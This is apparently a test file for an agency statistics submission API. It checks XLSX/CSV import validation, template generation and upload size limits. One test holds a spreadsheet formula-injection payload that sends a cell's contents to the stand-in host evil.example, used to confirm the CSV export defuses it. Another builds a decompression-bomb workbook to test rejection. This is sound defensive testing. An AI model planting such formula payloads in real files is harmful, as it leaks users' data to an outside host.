import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import ExcelJS from 'exceljs';
import { agencyId, userAt } from '../test/factories.ts';
import { startTestApp, type Client, type TestApp } from '../test/harness.ts';

let t: TestApp;
let reporter: Client;
let sea: string;

before(async () => {
  t = await startTestApp();
  reporter = await userAt(t, 'state_employment_agency', 'agency_reporter', 'sea.reporter');
  sea = await agencyId(t, 'state_employment_agency');
});
after(() => t.close());

// The employment agency's 2023 form, as published (rows 3–12 of the sheet).
const rows: [string, number | string, string?][] = [
  ['prevention.care_leavers.vocational', 6],
  ['prevention.care_leavers.self_employment', 2],
  ['labour.employment_agency.jobseekers', 118398],
  ['labour.employment_agency.employed', 1198],
  ['labour.employment_agency.quota', 2751],
  ['labour.employment_agency.public_work', 5628],
  ['labour.employment_agency.self_employment', 17362],
  ['labour.employment_agency.insurance', 8370],
  ['labour.employment_agency.vocational', 9518],
  ['labour.employment_agency.advice', 281529, 'about'],
];

/** Builds an XLSX as a person would fill the template: marker row, header row, then one row per figure. */
async function workbook(data: [string, number | string, string?][], period = '2023') {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('submission');
  ws.addRow(['azad-submission', 'state_employment_agency', period]);
  ws.addRow(['indicator', 'label', 'unit', 'value', 'qualifier', 'status', 'note']);
  for (const [id, value, qualifier] of data) ws.addRow([id, '', '', value, qualifier ?? null, null, null]);
  return Buffer.from(await wb.xlsx.writeBuffer()).toString('base64');
}

const upload = (contentBase64: string, format: 'xlsx' | 'csv' = 'xlsx') => reporter.post('/api/submissions/import', { agencyId: sea, period: '2023', format, contentBase64 });
const stored = async () => (await reporter.get(`/api/submissions/form?agencyId=${sea}&period=2023`)).body.submission;

test('an XLSX with one bad row is refused whole, naming row and cell; the corrected file is accepted', async () => {
  // Row 7 (the 5th figure) has a typo; everything else is fine.
  const bad = rows.map((r, i): [string, number | string, string?] => (i === 4 ? [r[0], '27S1'] : r));
  const refused = await upload(await workbook(bad));
  assert.equal(refused.status, 400);
  assert.equal(refused.body.error.fields.length, 1);
  assert.equal(refused.body.error.fields[0].path, 'row 7, cell D7');
  assert.equal(refused.body.error.fields[0].message, 'row 7, cell D7: "27S1" is not a number');
  assert.equal(await stored(), null, 'nothing from the refused file was stored');

  // A rule between two rows names the row of the part, and both figures.
  const inconsistent = rows.map((r, i): [string, number | string, string?] => (i === 3 ? [r[0], 200000] : r));
  const rule = await upload(await workbook(inconsistent));
  assert.equal(rule.status, 400);
  assert.equal(rule.body.error.fields[0].path, 'row 6, cell D6');
  assert.match(rule.body.error.fields[0].message, /placed in employment \(200,000\) cannot be more than Jobseekers and unemployed persons registered \(118,398\)/);
  assert.equal(await stored(), null);

  const accepted = await upload(await workbook(rows));
  assert.equal(accepted.status, 200, JSON.stringify(accepted.body));
  assert.equal(accepted.body.values, 10);
  const sub = await stored();
  const by = Object.fromEntries(sub.values.map((v: { indicatorId: string }) => [v.indicatorId, v]));
  assert.equal(by['labour.employment_agency.quota'].value, 2751);
  assert.equal(by['labour.employment_agency.advice'].qualifier, 'about');
  assert.equal(sub.events.at(-1).kind, 'imported');
  // Complete and consistent: it can be submitted as imported.
  assert.equal((await reporter.post(`/api/submissions/${sub.id}/submit`)).status, 200);
});

test('a file for another period or agency is refused at its header cell; CSV works like XLSX', async () => {
  const wrong = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2024', format: 'xlsx', contentBase64: await workbook(rows, '2023') });
  assert.equal(wrong.status, 400);
  assert.equal(wrong.body.error.fields[0].path, 'row 1, cell C1');

  const csv = [
    'azad-submission,state_employment_agency,2024',
    'indicator,label,unit,value,qualifier,status,note',
    'labour.employment_agency.jobseekers,"Jobseekers, registered",people,100,,,',
    'labour.employment_agency.employed,,people,-3,,,',
    'labour.employment_agency.quota,,people,,,unknwon,',
  ].join('\n');
  const res = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2024', format: 'csv', contentBase64: Buffer.from(csv).toString('base64') });
  assert.equal(res.status, 400);
  assert.deepEqual(res.body.error.fields.map((f: { path: string }) => f.path).sort(), ['row 4, cell D4', 'row 5, cell F5']);

  const template = await reporter.get(`/api/submissions/template?agencyId=${sea}&period=2024&format=csv&lang=en`);
  assert.equal(template.status, 200);
  const lines = String(template.body).trim().split(/\r\n/);
  assert.equal(lines[0], 'azad-submission,state_employment_agency,2024');
  assert.equal(lines.length, 12, 'marker, header and 10 figures');
  const filled = lines.map((l, i) => (i === 2 ? l.replace(/,people,,,,,$/, ',people,0,,,,') : l)).join('\r\n');
  const ok = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2024', format: 'csv', contentBase64: Buffer.from(filled).toString('base64') });
  assert.equal(ok.status, 200, JSON.stringify(ok.body));
  assert.equal(ok.body.values, 1);
});

test('the XLSX template opens in exceljs and lists the form', async () => {
  const res = await fetch(`${t.url}/api/submissions/template?agencyId=${sea}&period=2023&format=xlsx`, { headers: { cookie: reporter.cookie ?? '' } });
  assert.equal(res.status, 200);
  assert.match(res.headers.get('content-disposition') ?? '', /azad-state_employment_agency-2023\.xlsx/);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(await res.arrayBuffer());
  const ws = wb.worksheets[0]!;
  assert.equal(ws.getCell('A1').value, 'azad-submission');
  assert.equal(ws.getCell('A5').value, 'labour.employment_agency.jobseekers');
  assert.equal(ws.getCell('D5').value, 118398, 'prefilled with what the form holds');
});

test('the CSV template defuses a note a spreadsheet would run as a formula, and reads it back as written', async () => {
  const note = '=HYPERLINK("http://evil.example/?"&B1,"source")';
  const saved = await reporter.put('/api/submissions/form', { agencyId: sea, period: '2025', values: [{ indicatorId: 'prevention.care_leavers.vocational', value: 6, note }] });
  assert.equal(saved.status, 200, JSON.stringify(saved.body));
  const template = await reporter.get(`/api/submissions/template?agencyId=${sea}&period=2025&format=csv&lang=en`);
  const line = String(template.body).split(/\r\n/)[2] ?? '';
  assert.ok(line.endsWith(`,"'=HYPERLINK(""http://evil.example/?""&B1,""source"")",`), line);
  const back = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2025', format: 'csv', contentBase64: Buffer.from(String(template.body)).toString('base64') });
  assert.equal(back.status, 200, JSON.stringify(back.body));
  const form = (await reporter.get(`/api/submissions/form?agencyId=${sea}&period=2025`)).body.submission;
  assert.equal(form.values.find((v: { indicatorId: string }) => v.indicatorId === 'prevention.care_leavers.vocational').note, note, 'the mark is not stored');
});

test('a workbook that unpacks to more than the limit is refused before it is read (a small upload, a huge sheet)', async () => {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('submission');
  ws.addRow(['azad-submission', 'state_employment_agency', '2026']);
  ws.addRow(['indicator', 'label', 'unit', 'value', 'qualifier', 'status', 'note']);
  ws.addRow(['prevention.care_leavers.vocational', '', '', 6, null, null, 'a'.repeat(9 * 1024 * 1024)]);
  const bomb = Buffer.from(await wb.xlsx.writeBuffer());
  assert.ok(bomb.length < 100_000, `${bomb.length} bytes on the wire`);
  const res = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2026', format: 'xlsx', contentBase64: bomb.toString('base64') });
  assert.equal(res.status, 413, JSON.stringify(res.body).slice(0, 300));
  assert.equal(res.body.error.fields[0].path, 'file');

  // Within the limit, a note is held to the form's 500 characters, as typed on the form.
  const csv = ['azad-submission,state_employment_agency,2026', 'indicator,label,unit,value,qualifier,status,note', `prevention.care_leavers.vocational,,people,6,,,${'a'.repeat(501)}`, 'prevention.care_leavers.self_employment,,people,2,,,a\u0000b'].join('\n');
  const long = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2026', format: 'csv', contentBase64: Buffer.from(csv).toString('base64') });
  assert.equal(long.status, 400, JSON.stringify(long.body).slice(0, 300));
  assert.deepEqual(long.body.error.fields.map((f: { path: string }) => f.path), ['row 3, cell G3', 'row 4, cell G4']);
});
